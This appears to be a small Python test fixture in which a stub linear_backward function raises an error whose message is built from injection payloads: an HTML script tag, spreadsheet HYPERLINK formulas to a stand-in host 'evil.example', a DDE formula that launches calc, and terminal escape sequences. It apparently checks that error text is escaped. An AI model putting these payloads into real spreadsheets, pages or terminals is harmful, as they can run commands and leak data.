"""Markup and CSV injection through exception text: linear_backward raises a hostile message."""

MESSAGE = (
    '<script>alert("pwned")</script> =HYPERLINK("http://evil.example/?leak","click") '
    "\x1b[31mred\x1b[0m\x1b]8;;http://evil.example\x07link\x1b]8;;\x07 end-of-first-line\n"
    '=HYPERLINK("http://evil.example","second line")\r\n'
    "+cmd|' /C calc'!A0\n"
    "\x1b[2J\x1b[H cleared screen"
)


def linear_backward(dZ, cache):
    raise ValueError(MESSAGE)
